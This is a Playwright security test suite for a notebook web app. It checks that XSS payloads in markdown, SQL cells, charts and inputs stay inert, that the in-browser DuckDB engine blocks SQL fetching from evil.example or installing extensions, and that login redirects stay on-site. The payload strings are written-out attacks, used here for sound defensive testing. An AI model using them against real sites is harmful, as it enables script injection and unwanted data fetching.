import type { BrowserContext, Page, Request } from '@playwright/test';
import { expect, test } from './fixtures.ts';
import { NotebookPage } from './pages/notebook.ts';

const SCRIPT = '<img src=x onerror="window.pwned=1"><svg onload="window.pwned=1"><script>window.pwned=1</script>';

/** What a page did that it must not: dialogs, our mark in `window`, refusals of the content policy. */
async function watched(page: Page): Promise<{ expectQuiet(): Promise<void> }> {
  const seen: string[] = [];
  page.on('dialog', (dialog) => {
    seen.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('console', (message) => {
    if (/content security policy|refused to/i.test(message.text())) seen.push(message.text());
  });
  return {
    async expectQuiet() {
      expect(seen).toEqual([]);
      expect(await page.evaluate(() => Reflect.get(window, 'pwned') as unknown)).toBeUndefined();
      expect(await page.locator('[onerror], [onload], a[href^="javascript:" i], svg[onload]').count()).toBe(0);
    },
  };
}

const hostileNotebook = `
${SCRIPT}

# Title ${SCRIPT}

[click](javascript:window.pwned=1) [case](JaVaScRiPt:window.pwned=1) [data](data:text/html,<script>window.pwned=1</script>) ![i](javascript:window.pwned=1)

- ${SCRIPT}
  > [nested](vbscript:x) <javascript:window.pwned=1>

\`\`\`sql xss_rows
---
layer: gold
---
select '${SCRIPT.replaceAll("'", "''")} ' || i as "${SCRIPT.replaceAll('"', '""')}", i as n from range(3) t(i)
\`\`\`

\`\`\`chart xss_bars
from: xss_rows
type: bar
title: '${SCRIPT}'
x: '${SCRIPT}'
y: { column: n, aggregate: sum }
\`\`\`

\`\`\`chart xss_pie
from: xss_rows
type: pie
x: '${SCRIPT}'
y: { column: n, aggregate: sum }
\`\`\`

\`\`\`input xss_input
type: select
label: '${SCRIPT}'
options:
  from: xss_rows
  column: '${SCRIPT}'
\`\`\`
`;

test.describe('what people and data say', () => {
  test('is text everywhere: prose, names, cells of a grid, charts and their tips', async ({
    page,
    api,
    stranger,
    join,
  }) => {
    const watch = await watched(page);
    const id = await api.importNotebook(`'${SCRIPT.replaceAll("'", "''")}'`, hostileNotebook);
    const guest = await join(SCRIPT, 'viewer');
    await guest.page.goto(`/notebooks/${id}`);
    await api.run(id);
    const notebook = new NotebookPage(page);
    await notebook.open(id);
    await expect(
      notebook
        .grid('xss_rows')
        .getByRole('gridcell', { name: /onerror/ })
        .first(),
    ).toBeVisible();
    const canvas = notebook.cell('xss_bars').locator('canvas, svg').last();
    await canvas.scrollIntoViewIfNeeded();
    const box = await canvas.boundingBox();
    for (let step = 1; box !== null && step < 6; step++)
      await page.mouse.move(box.x + (box.width * step) / 6, box.y + box.height * 0.7);
    await watch.expectQuiet();
    for (const path of ['/notebooks', '/tables', '/runs', '/people', '/settings']) {
      await page.goto(path);
      await watch.expectQuiet();
    }
    const { token } = await api.post<{ token: string }>(`/notebooks/${id}/publish`);
    const shown = await stranger.newPage();
    const outside = await watched(shown);
    await shown.goto(`/d/${token}`);
    await expect(shown.getByText('onerror').first()).toBeVisible();
    await outside.expectQuiet();
  });
});

/** The requests a page makes that no page of ours would make by itself. */
function strangeRequests(context: BrowserContext, url: string): Request[] {
  const strange: Request[] = [];
  context.on('request', (request) => {
    const { origin, pathname } = new URL(request.url());
    if (request.url().startsWith('data:') || request.url().startsWith('blob:')) return;
    if (origin !== new URL(url).origin || pathname === '/api/v1/canary') strange.push(request);
  });
  return strange;
}

test.describe('the engine in the browser', () => {
  test('makes no request and changes no setting for anything a cell says', async ({ page, api, baseURL, context }) => {
    const strange = strangeRequests(context, baseURL ?? '');
    const id = await api.importNotebook('Locked', '```sql locked\nselect 1 as n\n```\n');
    const notebook = new NotebookPage(page);
    await notebook.open(id);
    await expect(notebook.grid('locked').getByRole('gridcell', { name: '1', exact: true })).toBeVisible();
    const own = `${baseURL ?? ''}/api/v1/canary`;
    const attempts = [
      "from read_csv('/api/v1/canary')",
      "from '/api/v1/canary'",
      `from read_csv('${own}')`,
      `from '${own}.parquet'`,
      `from read_text('${own}')`,
      "from 'https://evil.example/x.parquet'",
      `attach '${own}' as x`,
      "copy (select 1) to '/x.csv'",
      "set custom_extension_repository = 'https://evil.example'",
      'install httpfs',
      'load httpfs',
      `select * from query('from ''${own}''')`,
      'from duckdb_settings()',
      `with a as (from read_json('${own}')) from a`,
    ];
    for (const [index, sql] of attempts.entries()) {
      await notebook.write('locked', sql);
      await expect(notebook.cell('locked').getByRole('alert').first()).toBeVisible();
      // A good text between two bad ones: each alert is that of its own statement.
      await notebook.write('locked', `select ${100 + index} as n`);
      await expect(
        notebook.grid('locked').getByRole('gridcell', { name: String(100 + index), exact: true }),
      ).toBeVisible();
    }
    expect(strange.map((request) => request.url())).toEqual([]);
    await notebook.write('locked', 'select 41 + 1 as n');
    await expect(notebook.grid('locked').getByRole('gridcell', { name: '42', exact: true })).toBeVisible();
  });
});

test.describe('pages', () => {
  test('carry a policy that runs our scripts and nobody else’s, and cannot be framed', async ({ request }) => {
    for (const path of ['/', '/login', '/d/nobody', '/notebooks', '/nothing-here']) {
      const headers = (await request.get(path)).headers();
      const policy = headers['content-security-policy'] ?? '';
      expect(policy, path).toContain("frame-ancestors 'none'");
      expect(policy, path).toContain("object-src 'none'");
      expect(/script-src ([^;]*)/.exec(policy)?.[1], path).not.toMatch(/unsafe-inline|'unsafe-eval'|\*|https?:/);
      expect(headers['x-content-type-options'], path).toBe('nosniff');
    }
  });

  test('send nobody to another site after signing in', async ({ stranger, baseURL }) => {
    const page = await stranger.newPage();
    for (const next of [
      '//evil.example',
      'https://evil.example',
      '/\\evil.example',
      'javascript:window.pwned=1',
      '/%5cevil.example',
    ]) {
      await page.goto(`/login?next=${encodeURIComponent(next)}`);
      await page.getByLabel('E-mail').fill('ana@example.com');
      await page.getByRole('textbox', { name: 'Password' }).fill('uma senha boa');
      await page.getByRole('button', { name: 'Log in' }).click();
      await expect(page).not.toHaveURL(/login/);
      expect(new URL(page.url()).origin).toBe(new URL(baseURL ?? '').origin);
      await stranger.clearCookies();
    }
  });
});
